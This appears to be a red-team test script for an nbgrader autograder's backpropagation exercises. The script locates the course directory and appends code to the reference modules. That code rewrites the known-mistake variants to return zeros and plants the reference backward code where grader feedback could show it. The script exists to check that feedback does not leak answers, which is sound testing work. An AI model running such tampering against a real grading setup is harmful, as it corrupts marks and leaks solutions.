"""Class 1, residue in the course directory. In nbgrader's kernel: rewrite the known-wrong
variants (KNOWN_WRONG) of every module of reference/backprop/ so that each variant's
backward returns zeros, which any submission returning zeros matches, and carries the
reference's own backward code as its docstring and as extra KNOWN_WRONG ids (the texts a
grader could show as "likely cause: ...").
Expected: no feedback shows the reference's code (the grader does not take text from the
course's reference files into feedback: the wording of each known mistake is the
exercise's declaration, outside the course directory)."""
from pathlib import Path as _Path

_COURSE = next((d for d in (_Path.cwd(), *_Path.cwd().parents)
                if (d / "nbgrader_config.py").is_file() and (d / "gradebook.db").is_file()), None)
if _COURSE is not None:
    for _path in sorted((_COURSE / "reference" / "backprop").glob("*.py")):
        _ref = _path.read_text()
        if "KNOWN_WRONG" not in _ref or "_backward(params, cache)" not in _ref:
            continue
        _start = _ref.rindex("def ", 0, _ref.index("_backward(params, cache)"))
        _body = _ref[_start:][:1500]
        with open(_path, "a") as _f:
            _f.write(f'''

# REDTEAM-APPENDED by the mutant leak
def _redteam_zeros_backward(params, cache):
    {_body!r}
    return {{k: np.zeros(np.shape(v)) for k, v in params.items()}}


_redteam_zeros_backward.__doc__ = {_body!r}
KNOWN_WRONG = {{**{{m: {{f: _redteam_zeros_backward for f in fns if f.endswith("_backward")}} or fns
                   for m, fns in KNOWN_WRONG.items()}},
               {_body!r}: {{f: _redteam_zeros_backward for fns in KNOWN_WRONG.values() for f in fns
                           if f.endswith("_backward")}}}}
''')
    print("REDTEAM-KERNEL: mutants appended")
